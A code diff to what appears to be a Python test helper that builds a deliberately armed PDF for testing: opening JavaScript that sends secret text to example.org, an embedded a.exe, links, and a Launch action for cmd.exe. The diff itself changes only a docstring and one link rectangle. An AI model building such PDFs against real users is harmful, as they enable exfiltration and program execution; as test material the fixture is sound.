@@ -76,7 +76,7 @@ def raw_pdf(things: Sequence[bytes], trailer: bytes = b"") -> bytes:
 
 
 def armed_pdf(words: str) -> bytes:
-    """A PDF with a script at its opening, a file inside, a link, a program to launch and words in its metadata."""
+    """A PDF with a script at its opening, a file inside, links, a program to launch and words about it."""
     secret = words.encode("utf-8")
     inside = b"<< /Type /EmbeddedFile /Length %d >>\nstream\n%s\nendstream" % (len(secret), secret)
     return raw_pdf(
@@ -88,7 +88,7 @@ def armed_pdf(words: str) -> bytes:
             b"<< /S /JavaScript /JS (app.launchURL\\('https://example.org/%s'\\)) >>" % secret,
             b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
             inside,
-            b"<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A << /S /URI /URI (https://example.org) >> >>",
+            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org) >> >>",
             b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>",
             b"<< /Title (%s) /Author (%s) >>" % (secret, secret),
         ],
